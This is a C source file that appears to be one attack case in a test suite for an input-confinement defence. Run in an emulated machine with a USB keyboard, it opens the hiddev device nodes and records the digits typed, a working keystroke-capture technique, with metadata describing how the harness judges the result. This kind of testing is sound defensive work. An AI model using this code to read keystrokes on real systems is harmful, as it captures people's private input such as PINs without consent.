// SPDX-License-Identifier: Apache-2.0
/*
 * Reads a USB keyboard's events from a hiddev node, which usbhid makes for any device
 * that its quirks name.
 *
 * attack: hiddev_reader
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * devices: qemu-xhci usb-kbd
 * append: usbhid.quirks=0x0627:0x0001:0x0010
 * defence: confinement
 * why: hiddev is fed beside the input core; the REE has no hiddev nodes and cannot make any
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/hiddev.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "digits.h"
#include "report.h"

#define NODES		8
#define PAGE_KEYBOARD	0x70000u

static size_t open_all(int fds[NODES])
{
	char path[32];
	size_t count = 0;
	int i;

	for (i = 0; i < NODES; i++) {
		snprintf(path, sizeof(path), "/dev/usb/hiddev%d", i);
		fds[count] = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fds[count] >= 0)
			count++;
	}
	return count;
}

static void collect(int fd, struct digits *d)
{
	struct hiddev_event event;

	while (read(fd, &event, sizeof(event)) == sizeof(event))
		if (event.value == 1 && (event.hid & ~0xffffu) == PAGE_KEYBOARD)
			digits_add(d, digits_of_usage(event.hid & 0xffff));
}

int main(void)
{
	struct digits digits = { 0 };
	int fds[NODES];
	size_t count, i;

	attack_init();
	count = open_all(fds);
	attack_ready();
	if (!count)
		attack_failed("no /dev/usb/hiddev can be opened: %s", strerror(errno));
	while (!attack_wait(10))
		for (i = 0; i < count; i++)
			collect(fds[i], &digits);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
